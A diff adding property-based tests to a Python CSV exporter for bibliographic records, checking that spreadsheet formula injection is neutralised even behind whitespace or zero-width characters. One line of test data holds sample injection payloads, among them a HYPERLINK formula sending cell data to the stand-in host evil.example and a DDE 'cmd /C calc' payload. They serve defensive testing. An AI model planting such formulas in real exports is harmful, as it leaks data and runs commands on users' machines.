@@ -108,13 +108,51 @@ def test_any_cell_text_stays_in_one_cell(text: str) -> None:
     assert escaped.replace("\\\\", "").count("|") == escaped.replace("\\\\", "").count("\\|")
 
 
+# What a spreadsheet may skip before a formula, or shows as nothing: whitespace and zero-width characters.
+BLANKS = "".join(c for c in map(chr, range(0x3001)) if c.isspace()) + "\xad\u061c\u180e\u200b\u200c\u200d"
+BLANKS += "\u200e\u200f\u2060\u2061\u2062\u2063\u2064\ufeff"
+TRIGGERS = ("=", "+", "-", "@")
+
+
+def written(text: str) -> str:
+    """A data cell as the CSV holds it: CR as LF, the unsafe characters dropped, then guarded."""
+    text = UNSAFE_IN_DATA.sub("", text.replace("\r\n", "\n").replace("\r", "\n"))
+    live = text.startswith("\t") or text.lstrip(BLANKS).startswith(TRIGGERS)
+    return "'" + text if live else text
+
+
 @given(st.lists(st.text(), min_size=1, max_size=5))
 def test_csv_round_trips_any_text(titles: list[str]) -> None:
     rows = [placement(title=t) for t in titles]
     parsed = [r["title"] for r in csv.DictReader(io.StringIO(render_csv(rows), newline=""))]
-    guarded = ["'" + t if t.startswith(("=", "+", "-", "@", "\t", "\r")) else t for t in titles]
-    expected = [UNSAFE_IN_DATA.sub("", t.replace("\r\n", "\n").replace("\r", "\n")) for t in guarded]
-    assert parsed == expected
+    assert parsed == [written(t) for t in titles]
+
+
+# Every character a data cell drops (below U+2070, where they all are), and the blanks.
+DROPPED = "".join(c for c in map(chr, range(0x2070)) if UNSAFE_IN_DATA.match(c))
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)")
+
+
+@given(
+    prefix=st.text(st.sampled_from(DROPPED + BLANKS + "\r"), max_size=6),
+    formula=st.sampled_from(FORMULAS),
+    tail=st.text(max_size=5),
+    field=st.sampled_from(["category", "title", "venue", "year", "why", "doi", "url", "zotero_key"]),
+)
+def test_no_dropped_or_blank_prefix_leaves_a_live_formula(
+    prefix: str, formula: str, tail: str, field: str
+) -> None:
+    value = prefix + formula + tail
+    row = placement(**{field: value}, authors=(value,), tags=(value,), collections=(value, "x"))
+    (header, cells) = list(csv.reader(io.StringIO(render_csv([row]), newline="")))
+    assert header == list(COLUMNS)
+    for text in cells:
+        if text.startswith("'"):
+            continue  # guarded: a spreadsheet shows it as text
+        assert not text.startswith(TRIGGERS) and not text.lstrip(BLANKS).startswith(TRIGGERS), text
+        assert text == UNSAFE_IN_DATA.sub("", text)  # and nothing dropped is left to hide in
+    guarded = dict(zip(header, cells, strict=True))[field]
+    assert guarded == written(value) and guarded.startswith("'")
 
 
 def test_atomic_writes_keep_a_files_mode_and_give_new_files_the_usual_one(tmp_path) -> None:
@@ -133,3 +171,15 @@ def test_atomic_writes_keep_a_files_mode_and_give_new_files_the_usual_one(tmp_pa
         assert stat.S_IMODE(fresh.stat().st_mode) == 0o640
     finally:
         os.umask(old_mask)
+
+
+def test_csv_collections_list_twenty_paths_then_an_ellipsis() -> None:
+    paths = tuple(f"Top / Shelf {i}" for i in range(25))
+    rows = [
+        placement(collections=paths[:20]),
+        placement(collections=paths[:21]),
+        placement(collections=paths),
+    ]
+    cells = [r["collections"] for r in csv.DictReader(io.StringIO(render_csv(rows)))]
+    twenty = "; ".join(paths[:20])
+    assert cells == [twenty, twenty + "; …", twenty + "; …"]
